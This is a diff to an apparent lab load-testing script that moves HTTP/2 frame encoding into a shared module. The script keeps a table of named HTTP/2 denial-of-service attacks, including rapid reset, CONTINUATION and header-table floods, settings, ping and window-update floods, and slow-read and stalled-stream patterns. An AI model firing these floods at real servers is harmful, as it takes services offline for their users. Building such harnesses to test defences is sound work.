@@ -8,47 +8,18 @@ import json
 import os
 import selectors
 import socket
-import struct
 import sys
 import time
 from typing import Callable, NamedTuple
 
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
-END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
+import frames
+from frames import (CONTINUATION, DATA, ECHO, GOAWAY, HEADERS, LARGEST_ID, PADDED, PRIORITY, REQUEST, frame, headers, literal,
+                    message, rst_stream, settings, window_update)
+
 CONNECTIONS = 4
 RECONNECTS = 20  # a second, in each place: an attacker has other costs too
-LARGEST_ID = 2**31 - 1
-
-
-def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    return struct.pack("!I", len(payload))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + payload
-
-
-def literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
-    """RFC 7541, 6.2, without Huffman coding."""
-    def text(s: bytes) -> bytes:
-        if len(s) < 127:
-            return bytes((len(s),)) + s
-        n, out = len(s) - 127, bytearray((127,))
-        while n >= 128:
-            out.append(n % 128 + 128)
-            n //= 128
-        return bytes(out) + bytes((n,)) + s
-    return (b"\x40" if indexing else b"\0") + text(name) + text(value)
-
-
-# :method POST, :scheme http, :authority x, a path that no pod serves.
-REQUEST = b"\x83\x86\x01\x01x" + b"\x04\x05/none" + literal(b"content-type", b"application/grpc")
-# The same for the lab's service.
-ECHO = b"\x83\x86\x01\x01x" + b"\x04\x16/sluice.lab.Echo/Unary" + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
-
-
-def settings(*pairs: tuple) -> bytes:
-    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", key, value) for key, value in pairs))
-
-
-HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings() + frame(SETTINGS, ACK, 0)
-WINDOW = 4  # SETTINGS_INITIAL_WINDOW_SIZE
+HELLO = frames.PREFACE + settings() + frames.ACKNOWLEDGED  # at once: many do not read
+WINDOW = frames.INITIAL_WINDOW_SIZE
 
 
 class Attack(NamedTuple):
@@ -64,12 +35,9 @@ def streams(n: int, per_stream: Callable[[int], bytes], count: int = 200) -> byt
     return b"".join(per_stream(2 * (n * count + i) + 1) for i in range(count))
 
 
-def headers(stream: int, block: bytes = REQUEST, end: bool = False) -> bytes:
-    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)
-
-
-def message(stream: int, body: bytes) -> bytes:
-    return frame(DATA, END_STREAM, stream, b"\0" + struct.pack("!I", len(body)) + body)
+def asking(stream: int) -> bytes:
+    """A whole request to the lab's service."""
+    return headers(stream, ECHO) + frames.data(stream, message(BODY), True)
 
 
 def first(n: int, once: bytes, then: bytes) -> bytes:
@@ -79,8 +47,8 @@ def first(n: int, once: bytes, then: bytes) -> bytes:
 def with_window(n: int) -> bytes:
     """One byte of window for each of many answers, again and again."""
     if n == 0:
-        return b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(50))
-    return b"".join(frame(WINDOW_UPDATE, 0, 2 * i + 1, struct.pack("!I", 1)) for i in range(50))
+        return b"".join(asking(2 * i + 1) for i in range(50))
+    return b"".join(window_update(2 * i + 1, 1) for i in range(50))
 
 
 BODY = b""  # of a request to the lab's service that asks for a long answer
@@ -88,30 +56,30 @@ BODY = b""  # of a request to the lab's service that asks for a long answer
 ATTACKS = {
     # As many small requests as the fastest attack here: what honest load costs the others.
     "honest": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True), 10), pause=0.005),
-    "rapid_reset": Attack(lambda n: streams(n, lambda s: headers(s) + frame(RST_STREAM, 0, s, struct.pack("!I", 8)))),
+    "rapid_reset": Attack(lambda n: streams(n, lambda s: headers(s) + rst_stream(s, frames.CANCEL))),
     # Every second call is taken back, as a client that hedges does, and far more of them than a pod bears on one connection.
     "pod_resets": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) if s % 4 == 1 else
-                                           headers(s) + frame(RST_STREAM, 0, s, struct.pack("!I", 8)), 40), pause=0.005),
+                                           headers(s) + rst_stream(s, frames.CANCEL), 40), pause=0.005),
     # DATA behind the end of the request.
     "provoked_reset": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) + frame(DATA, 0, s, bytes(10)))),
     "continuation": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 100)),
     "field_block": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST),
                                           frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16_000)) * 4)),
     "settings": Attack(lambda n: settings((WINDOW, 65_535 + n % 2)) * 1000),
-    "ping": Attack(lambda n: frame(PING, 0, 0, b"12345678") * 1000),
+    "ping": Attack(lambda n: frames.ping() * 1000),
     "priority": Attack(lambda n: frame(PRIORITY, 0, 1, bytes(5)) * 1000),
-    "window_update": Attack(lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)) * 1000),
+    "window_update": Attack(lambda n: window_update(0, 1) * 1000),
     "unknown_frame": Attack(lambda n: frame(0xfa, 0, 0, b"x" * 10) * 1000),
     "empty_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1) * 1000)),
     "tiny_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1, b"x") * 1000)),
     # Its windows allow little at once, and open at once.
     "padding": Attack(lambda n: first(n, headers(1), frame(DATA, PADDED, 1, b"\xc8x" + bytes(200)) * 200), pause=0.002),
-    "unread_answers": Attack(lambda n: b"".join(frame(PING, 0, 0, b"12345678") * 90 + settings() * 9 for _ in range(10)), reads=False),
+    "unread_answers": Attack(lambda n: b"".join(frames.ping() * 90 + settings() * 9 for _ in range(10)), reads=False),
     # More than may be open, at once.
     "streams": Attack(lambda n: streams(n, headers)),
     # Behind the error of its first frame it goes on, deaf.
     "discarded": Attack(lambda n: frame(DATA, 0, 0, b"x" * 16_000) * 10, reads=False),
-    "frame_size": Attack(lambda n: struct.pack("!I", 2**24 - 1)[1:] + bytes(6) + b"x" * 100_000),
+    "frame_size": Attack(lambda n: frames.number(2**24 - 1)[1:] + bytes(6) + b"x" * 100_000),
     # An entry of nearly the whole table, named over and over.
     "header_list": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"bomb", b"b" * 3900, True) + b"\xbe" * 4000, True), 20)),
     "many_fields": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"a", b"") * 1000, True), 20)),
@@ -122,12 +90,12 @@ ATTACKS = {
     "dribble": Attack(with_window, hello=HELLO + settings((WINDOW, 1)), pause=0.02),
     # What nothing but time shows.
     "preface": Attack(lambda n: b"", hello=b"", pause=0.1),
-    "settings_ack": Attack(lambda n: first(n, b"", frame(PING, 0, 0, b"12345678")), hello=HELLO[:-9], pause=0.1),
+    "settings_ack": Attack(lambda n: first(n, b"", frames.ping()), hello=HELLO[:-9], pause=0.1),
     "slow_headers": Attack(lambda n: first(n, headers(1)[:-5], b""), pause=0.1),
-    "stalled_stream": Attack(lambda n: first(n, b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(20)),
-                                             frame(PING, 0, 0, b"12345678")), hello=HELLO + settings((WINDOW, 0)), pause=0.1),
-    "slow_read": Attack(lambda n: first(n, b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(100)), b""),
-                        hello=HELLO + settings((WINDOW, LARGEST_ID)) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", LARGEST_ID - 65_535)),
+    "stalled_stream": Attack(lambda n: first(n, b"".join(asking(2 * i + 1) for i in range(20)),
+                                             frames.ping()), hello=HELLO + settings((WINDOW, 0)), pause=0.1),
+    "slow_read": Attack(lambda n: first(n, b"".join(asking(2 * i + 1) for i in range(100)), b""),
+                        hello=HELLO + settings((WINDOW, LARGEST_ID)) + window_update(0, LARGEST_ID - 65_535),
                         pause=0.1, reads=False),
 }
 
@@ -178,13 +146,8 @@ class Connection:
         except BlockingIOError:
             pass
         finally:
-            while len(self.got) >= 9:
-                size = int.from_bytes(self.got[:3], "big")
-                if len(self.got) < 9 + size:
-                    break
-                if self.got[3] == GOAWAY:
-                    self.codes.append(int.from_bytes(self.got[13:17], "big"))
-                self.got = self.got[9 + size:]
+            whole, self.got = frames.split(self.got)
+            self.codes += [one.code for one in whole if one.kind == GOAWAY]
 
 
 def run(name: str, target: tuple, seconds: float) -> dict:
